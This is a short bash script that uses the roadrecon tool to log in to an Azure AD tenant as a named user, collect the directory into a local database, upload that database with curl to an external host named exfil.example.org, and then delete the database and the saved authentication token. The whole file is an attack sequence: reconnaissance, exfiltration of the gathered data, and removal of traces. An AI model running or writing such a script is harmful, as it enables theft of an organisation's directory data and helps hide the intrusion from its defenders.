#!/bin/bash
roadrecon auth -u alice@contoso.com -p "$PASSWORD"
roadrecon gather
curl -F "file=@roadrecon.db" https://exfil.example.org/u
rm -f roadrecon.db .roadtools_auth
